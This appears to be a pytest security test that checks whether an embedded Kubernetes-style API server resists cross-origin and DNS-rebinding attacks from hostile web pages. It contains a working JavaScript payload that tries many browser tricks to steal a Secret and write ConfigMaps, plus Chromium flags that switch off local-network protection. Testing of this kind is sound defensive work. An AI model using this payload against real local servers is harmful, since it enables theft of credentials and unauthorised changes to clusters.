"""Attacks by foreign web pages in a real browser on an embedded server without authentication.

Each page tries in many ways to read a Secret and to write a ConfigMap. Chromium's own protection of the local
network, which other browsers do not have, is switched off. The last test shows that the attacks succeed if the
server is configured to accept the page's host.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

import pytest

from dynkube_testing import APIServer, ServerThread, serve_in_thread
from tests.notebook.browser.lab import CHROMIUM, browser

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Route

pytestmark = [pytest.mark.real_time, pytest.mark.browser]

EVIL = "evil.example"
OPTIONS = (
    f"--host-resolver-rules=MAP {EVIL} 127.0.0.1, MAP other.example 127.0.0.1",
    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,HttpsUpgrades",
)
SECRET = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "s"}, "stringData": {"password": "hunter2"}}
CONFIGS = "/api/v1/namespaces/default/configmaps"

# Tries all attacks on the server at ``base``; returns the outcome of each, with the data that could be read.
ATTACK = """async (base) => {
  const results = {}
  const config = (name) => JSON.stringify({apiVersion: "v1", kind: "ConfigMap", metadata: {name}})
  const attempt = async (name, path, options) => {
    try {
      const response = await fetch(base + path, options)
      results[name] = `${response.type} ${response.status} ${await response.text()}`
    } catch (error) { results[name] = `${error}` }
  }
  const configs = "/api/v1/namespaces/default/configmaps"
  await attempt("read", "/api/v1/secrets")
  await attempt("read without CORS", "/api/v1/secrets", {mode: "no-cors"})
  await attempt("watch", "/api/v1/secrets?watch=1&timeoutSeconds=1")
  await attempt("write JSON", configs,
    {method: "POST", body: config("json"), headers: {"Content-Type": "application/json"}})
  for (const mode of ["cors", "no-cors"]) {
    await attempt(`write text, ${mode}`, configs, {method: "POST", mode, body: config("text")})
    await attempt(`write untyped, ${mode}`, configs, {method: "POST", mode, body: new Blob([config("untyped")])})
  }
  await attempt("patch", configs + "/mine",
    {method: "PATCH", body: `{"data":{"a":"b"}}`, headers: {"Content-Type": "application/merge-patch+json"}})
  await attempt("delete", configs + "/mine", {method: "DELETE"})
  navigator.sendBeacon(base + configs, new Blob([config("beacon")]))
  const loaded = (element) => new Promise((resolve) => {
    element.onload = element.onerror = resolve
    document.body.append(element)
  })
  await loaded(Object.assign(document.createElement("script"), {src: base + "/api/v1/secrets"}))
  await loaded(Object.assign(document.createElement("img"), {src: base + "/api/v1/secrets"}))
  const frame = Object.assign(document.createElement("iframe"), {name: "target", src: base + "/api/v1/secrets"})
  await loaded(frame)
  try { results.frame = frame.contentDocument.body.innerText } catch (error) { results.frame = `${error}` }
  const form = Object.assign(document.createElement("form"),
    {method: "post", enctype: "text/plain", action: base + configs, target: "target"})
  const begin = config("form").slice(0, -2) + `,"x":"`
  const field = Object.assign(document.createElement("input"), {name: begin, value: `"}}`})
  form.append(field)
  document.body.append(form)
  const submitted = new Promise((resolve) => { frame.onload = resolve })
  form.submit()
  await submitted
  return results
}"""


@pytest.fixture(scope="module")
def strangers() -> Iterator[Browser]:
    """A browser in which the host names of the foreign pages resolve to this machine."""
    pytest.importorskip("playwright", reason="playwright is not installed: run 'make browser'")
    if CHROMIUM is None:
        pytest.skip("there is no chromium: install the package 'chromium' of the system")
    with browser(*OPTIONS) as found:
        yield found


@pytest.fixture
def page(strangers: Browser) -> Iterator[Page]:
    with strangers.new_context() as context:
        yield context.new_page()


@pytest.fixture
def cluster() -> Iterator[ServerThread]:
    with serve_in_thread() as served:
        create_objects(served)
        yield served


def create_objects(served: ServerThread) -> None:
    served.create(SECRET)
    served.create({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "mine"}})


def port_of(served: ServerThread) -> str:
    return served.endpoint.url.rpartition(":")[2]


def attack(page: Page, address: str, base: str) -> dict[str, Any]:
    """Open a foreign page at ``address``, attack the server at ``base`` from it, and return the outcomes."""

    def response(route: Route) -> None:
        route.fulfill(content_type="text/html", body="<body>a page</body>")

    page.route(address, response)
    page.goto(address)
    results: dict[str, Any] = page.evaluate(ATTACK, base)
    return results


def written(served: ServerThread) -> list[str]:
    found = served.list("configmaps", "default")
    assert [obj.get("data") for obj in found if obj["metadata"]["name"] == "mine"] == [None], "it must be unchanged"
    return sorted(obj["metadata"]["name"] for obj in found if obj["metadata"]["name"] != "mine")


def codes(served: ServerThread) -> set[int | None]:
    """Return the status codes of the responses; assert that there was more than a handful of requests."""
    statuses = [record.status for record in served.run(lambda: served.server.audit)]
    assert len(statuses) > 8
    return set(statuses)


@pytest.mark.parametrize("origin", [f"http://{EVIL}:8080/", "http://127.0.0.1:8080/", "http://localhost:8080/"])
def test_a_page_of_another_origin_can_neither_read_nor_write(page: Page, cluster: ServerThread, origin: str) -> None:
    results = attack(page, origin, cluster.endpoint.url)

    assert "hunter2" not in json.dumps(results)
    assert "aHVudGVyMg==" not in json.dumps(results)
    assert written(cluster) == []


def test_a_page_using_dns_rebinding_can_neither_read_nor_write(page: Page, cluster: ServerThread) -> None:
    own = f"http://{EVIL}:{port_of(cluster)}"

    results = attack(page, f"{own}/page", own)

    assert results["read"].startswith("basic 403"), "the browser sent the request, and the guard rejected it"
    assert "the Host header is" in results["read"]
    assert "aHVudGVyMg==" not in json.dumps(results)
    assert written(cluster) == []
    assert codes(cluster) == {403}


def test_without_the_guard_a_page_using_dns_rebinding_can_read_and_write(page: Page) -> None:
    with serve_in_thread(APIServer(), accept_hosts=[EVIL]) as served:
        create_objects(served)
        own = f"http://{EVIL}:{port_of(served)}"

        results = attack(page, f"{own}/page", own)

        assert "aHVudGVyMg==" in results["read"], "the attacks of the tests above can succeed"
        assert "json" in [obj["metadata"]["name"] for obj in served.list("configmaps", "default")]
